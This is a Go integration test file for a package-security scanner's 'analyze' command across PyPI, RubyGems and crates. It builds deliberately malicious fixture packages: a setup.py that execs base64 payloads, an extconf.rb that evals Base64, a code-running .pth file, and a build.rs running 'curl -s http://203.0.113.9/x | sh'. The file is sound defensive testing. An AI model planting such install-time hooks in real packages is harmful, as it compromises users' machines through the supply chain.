package integration

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// `phylum-box analyze` beyond npm: a PyPI sdist or wheel, a gem, a crate —
// downloaded by phylum-box itself from the index the user configured (a local
// server here: PyPI, RubyGems and crates.io are out of reach), or a local file —
// is read in memory by the static analysis: a payload is reported with its rule
// and file:line and exits 3; its clean twin exits 0. Install-time code is not
// run for these ecosystems, and the report says so. Nothing is written to the
// current directory.

// analyzeIn runs `phylum-box analyze ARGS...` in b's project with db and env.
func analyzeIn(b *box, db string, env []string, args ...string) result {
	b.t.Helper()
	return invocation{Mode: b.Mode, Args: append([]string{"analyze"}, args...), Dir: b.Project, Home: b.Home,
		Env: append([]string{"PHYLUM_BOX_DB=" + db}, env...), Timeout: 2 * time.Minute}.exec(b.t)
}

// wantFinding: exit 3, the rule and the evidence in the report on stdout, the
// package named, and the static-only note.
func wantFinding(t *testing.T, r result, why, pkg, rule, evidence string) {
	t.Helper()
	wantCode(t, r, 3, why)
	for _, s := range []string{pkg, rule, evidence, "install-time code not run (static analysis only)"} {
		if !strings.Contains(r.Stdout, s) {
			t.Errorf("%s: the report does not say %q\n%s", why, s, r)
		}
	}
}

func wantClean(t *testing.T, r result, why string) {
	t.Helper()
	wantCode(t, r, 0, why)
	if !strings.Contains(r.Stdout, "install-time code not run (static analysis only)") || strings.Contains(r.Stdout, "PB-ANALYSIS-") {
		t.Errorf("%s: the report of a clean package\n%s", why, r)
	}
}

// wantBlocked: exit 3, the rule and the evidence in the report on stdout, the
// package named.
func wantBlocked(t *testing.T, r result, why, pkg, rule, evidence string) {
	t.Helper()
	wantCode(t, r, 3, why)
	for _, s := range []string{pkg, rule, evidence} {
		if !strings.Contains(r.Stdout, s) {
			t.Errorf("%s: the report does not say %q\n%s", why, s, r)
		}
	}
}

// PyPI: pypi:NAME==VERSION is installed with pip into a throwaway project —
// static analysis of the downloads, then the build under the monitor; --static
// and local files are read only.
func TestAnalyzeMorePyPI(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		enc := base64.StdEncoding.EncodeToString([]byte(pyBuildPayload))
		ix.AddSdist("pbox-am-evil", "1.0", map[string]string{"setup.py": "import base64\nfrom setuptools import setup\n" +
			"try:\n    exec(base64.b64decode('" + enc + "'))\nexcept Exception:\n    pass\n" +
			"setup(name='pbox-am-evil', version='1.0', py_modules=['pbox_am_evil'])\n",
			"pbox_am_evil.py": "VALUE = 1\n"})
		// Nothing for the static analysis to see: only the monitor notices the
		// build's connection attempt.
		ix.AddSdist("pbox-am-quiet", "1.0", map[string]string{"setup.py": pyBuildPayload + "from setuptools import setup\n" +
			"setup(name='pbox-am-quiet', version='1.0', py_modules=['pbox_am_quiet'])\n",
			"pbox_am_quiet.py": "VALUE = 1\n"})
		ix.AddSdist("pbox-am-plain", "1.0", map[string]string{"setup.py": "from setuptools import setup\nsetup(name='pbox-am-plain', version='1.0', py_modules=['pbox_am_plain'])\n",
			"pbox_am_plain.py": "VALUE = 1\n"})
		ix.AddWheel("pbox-am-pth", "1.0", nil, map[string]string{"pbox_am_pth/__init__.py": "VALUE = 1\n",
			"pbox_am_pth_boot.pth": "import os; os.environ.setdefault('PBOX_AM', '1') or None\n"})
		ix.AddWheel("pbox-am-paths", "1.0", nil, map[string]string{"pbox_am_paths/__init__.py": "VALUE = 1\n",
			"pbox_am_paths.pth": "pbox_am_paths_extra\n"})
		db := regMalDB(t, m, "PyPI")
		b := regNewBox(t, m)
		// The index from the user's own pip config (as pip would use it).
		writeFile(t, filepath.Join(b.Home, ".config", "pip", "pip.conf"), "[global]\nindex-url = "+ix.URL+"/simple/\n", 0o644)
		// A local wheel, copied from the index.
		local, err := os.ReadFile(filepath.Join(ix.Dir, "files", "pbox_am_pth-1.0-py3-none-any.whl"))
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(b.Project, "pbox_am_pth-1.0-py3-none-any.whl"), string(local), 0o644)
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)

		r := analyzeIn(b, db, nil, "pypi:pbox-am-evil==1.0")
		wantBlocked(t, r, "an sdist whose setup.py execs a base64 payload", "pbox-am-evil@1.0", "PB-ANALYSIS-EVAL-DECODE", "setup.py:4:")
		buildNeverRan(t, r, "pip")
		r = analyzeIn(b, db, nil, "pypi:pbox-am-quiet@1.0")
		wantBlocked(t, r, "an sdist whose build quietly tries the network", "pbox-am-quiet@1.0", "PB-BEHAVIOUR-NETWORK", lbHost)
		r = analyzeIn(b, db, nil, "pypi:pbox-am-plain@1.0")
		wantCode(t, r, 0, "a plain sdist, built under the monitor")
		// (setuptools, its build backend, carries warnings: not blocking.)
		if !strings.Contains(r.Stderr, "building in the sandbox") || strings.Contains(r.Stdout, "BLOCKED") || strings.Contains(r.Stdout, "PB-BEHAVIOUR-") {
			t.Errorf("the plain sdist was not built, or was reported\n%s", r)
		}

		// PIP_INDEX_URL and --index name the index too.
		r = analyzeIn(b, db, []string{"PIP_INDEX_URL=" + ix.URL + "/simple/"}, "pypi:pbox-am-pth@1.0")
		wantBlocked(t, r, "a wheel with a .pth that runs code", "pbox-am-pth", "PB-ANALYSIS-PTH-FILE", "pbox_am_pth_boot.pth:1:")
		r = analyzeIn(b, db, nil, "--index", ix.URL+"/simple/", "pypi:pbox-am-paths==1.0")
		wantCode(t, r, 0, "a wheel with a paths-only .pth")

		// --static: downloaded by phylum-box and read, nothing installed or run.
		r = analyzeIn(b, db, nil, "--static", "pypi:pbox-am-evil==1.0")
		wantFinding(t, r, "--static: the sdist with the base64 payload", "pbox-am-evil@1.0", "PB-ANALYSIS-EVAL-DECODE", "setup.py:4:")
		if !strings.Contains(strings.Join(ix.Hits(), "\n"), "/files/pbox_am_evil-1.0.tar.gz") {
			t.Errorf("the sdist was not downloaded from the user's index: %v", ix.Hits())
		}
		wantClean(t, analyzeIn(b, db, nil, "--static", "pypi:pbox-am-plain@1.0"), "--static: a plain sdist")
		wantCode(t, analyzeIn(b, db, nil, "--static", "pypi:pbox-am-missing==1.0"), 5, "--static: a package the index does not have")

		r = analyzeIn(b, db, nil, "./pbox_am_pth-1.0-py3-none-any.whl")
		wantFinding(t, r, "a local wheel with a .pth that runs code", "pbox_am_pth@1.0", "PB-ANALYSIS-PTH-FILE", "pbox_am_pth_boot.pth:1:")
		assertSameTree(t, before, treeHash(t, b.Project, true), "analyze writes nothing to the project")
	})
}

func TestAnalyzeMoreGems(t *testing.T) {
	t.Parallel()
	bundleNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		gs := regStartGems(t)
		enc := base64.StdEncoding.EncodeToString([]byte(rbBuildPayload))
		gs.AddGem("pbox_am_ext", "1.0.0", nil, map[string]string{
			"ext/pbox_am_ext/extconf.rb": "require 'base64'\nbegin\n  eval(Base64.decode64('" + enc + "'))\nrescue StandardError\nend\n" + plainExtconf,
			"lib/pbox_am_ext.rb":         "module PboxAmExt; end\n"}, "ext/pbox_am_ext/extconf.rb")
		gs.AddGem("pbox_am_native", "1.0.0", nil, map[string]string{
			"ext/pbox_am_native/extconf.rb": plainExtconf,
			"lib/pbox_am_native.rb":         "module PboxAmNative; end\n"}, "ext/pbox_am_native/extconf.rb")
		gs.AddGem("pbox_am_quiet", "1.0.0", nil, map[string]string{
			"ext/pbox_am_quiet/extconf.rb": rbBuildPayload + plainExtconf,
			"lib/pbox_am_quiet.rb":         "module PboxAmQuiet; end\n"}, "ext/pbox_am_quiet/extconf.rb")
		db := regMalDB(t, m, "RubyGems")
		b := regNewBox(t, m)
		writeFile(t, filepath.Join(b.Home, ".gemrc"), "---\n:sources:\n- "+gs.URL+"/\n", 0o644)
		chownTree(t, m, b.Home)

		// Installed with Bundler: blocked by the static analysis before the build.
		r := analyzeIn(b, db, nil, "rubygems:pbox_am_ext@1.0.0")
		wantBlocked(t, r, "a gem whose extconf.rb evals Base64", "pbox_am_ext@1.0.0", "PB-ANALYSIS-EVAL-DECODE", "ext/pbox_am_ext/extconf.rb:3:")
		buildNeverRan(t, r, "bundle install --local")
		// A quiet extconf.rb: only the monitor sees it try the network.
		r = analyzeIn(b, db, nil, "rubygems:pbox_am_quiet@1.0.0")
		wantBlocked(t, r, "a gem whose extconf.rb quietly tries the network", "pbox_am_quiet@1.0.0", "PB-BEHAVIOUR-NETWORK", lbHost)
		r = analyzeIn(b, db, nil, "rubygems:pbox_am_native@1.0.0")
		wantCode(t, r, 0, "a gem with a plain extconf.rb, built under the monitor")
		if !strings.Contains(r.Stderr, "building in the sandbox") || strings.Contains(r.Stdout, "BLOCKED") || strings.Contains(r.Stdout, "PB-BEHAVIOUR-") {
			t.Errorf("the plain gem was not built, or was reported\n%s", r)
		}
		// --static: downloaded by phylum-box and read.
		r = analyzeIn(b, db, nil, "--static", "rubygems:pbox_am_ext@1.0.0")
		wantFinding(t, r, "--static: a gem whose extconf.rb evals Base64", "pbox_am_ext@1.0.0", "PB-ANALYSIS-EVAL-DECODE", "ext/pbox_am_ext/extconf.rb:3:")
		wantClean(t, analyzeIn(b, db, nil, "--static", "rubygems:pbox_am_native@1.0.0"), "--static: a gem with a plain extconf.rb")

		// A local .gem file.
		data, err := os.ReadFile(filepath.Join(gs.Dir, "gems", "pbox_am_ext-1.0.0.gem"))
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(b.Project, "pbox_am_ext-1.0.0.gem"), string(data), 0o644)
		chownTree(t, m, b.Project)
		r = analyzeIn(b, db, nil, "./pbox_am_ext-1.0.0.gem")
		wantFinding(t, r, "a local gem whose extconf.rb evals Base64", "pbox_am_ext@1.0.0", "PB-ANALYSIS-EVAL-DECODE", "ext/pbox_am_ext/extconf.rb:3:")
	})
}

// crates: from the sparse registry the user's ~/.cargo/config.toml replaces
// crates.io with. A project's .cargo/config.toml that points elsewhere (to a
// registry serving a poisoned crate of the same name) is not read: analyze reads
// no project file.
func TestAnalyzeMoreCrates(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		reg := regStartCargo(t)
		reg.AddCrate("pbox-am-bad", "1.0.0", nil, map[string]string{"src/lib.rs": "pub fn f() {}\n",
			"build.rs": "use std::process::Command;\nfn main() {\n    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://203.0.113.9/x | sh\").status();\n}\n"})
		reg.AddCrate("pbox-am-good", "1.0.0", nil, map[string]string{"src/lib.rs": "pub fn f() {}\n",
			"build.rs": "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n"})
		poisoned := regStartCargo(t)
		poisoned.AddCrate("pbox-am-good", "1.0.0", nil, map[string]string{"src/lib.rs": "pub fn f() {}\n",
			"build.rs": "use std::process::Command;\nfn main() {\n    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://203.0.113.9/x | sh\").status();\n}\n"})
		db := regMalDB(t, m, "crates.io")
		b := regNewBox(t, m)
		writeFile(t, filepath.Join(b.Home, ".cargo", "config.toml"), reg.SparseConfigToml(), 0o644)
		writeFile(t, filepath.Join(b.Project, ".cargo", "config.toml"), poisoned.SparseConfigToml(), 0o644)
		chownTree(t, m, b.Home)

		r := analyzeIn(b, db, nil, "crates:pbox-am-bad@1.0.0")
		wantFinding(t, r, "a crate whose build.rs pipes curl to sh", "pbox-am-bad@1.0.0", "PB-ANALYSIS-DOWNLOAD-EXEC", "build.rs:3:")
		wantClean(t, analyzeIn(b, db, nil, "crates:pbox-am-good@1.0.0"), "a crate with a plain build.rs (the user's registry, not the project's)")
		if hits := poisoned.Hits(); len(hits) != 0 {
			t.Errorf("analyze followed the project's .cargo/config.toml: %v", hits)
		}

		// A local .crate file.
		data, err := os.ReadFile(filepath.Join(reg.Dir, "dl", "pbox-am-bad", "pbox-am-bad-1.0.0.crate"))
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(b.Project, "pbox-am-bad-1.0.0.crate"), string(data), 0o644)
		chownTree(t, m, b.Project)
		r = analyzeIn(b, db, nil, "./pbox-am-bad-1.0.0.crate")
		wantFinding(t, r, "a local crate whose build.rs pipes curl to sh", "pbox-am-bad@1.0.0", "PB-ANALYSIS-DOWNLOAD-EXEC", "build.rs:3:")
	})
}
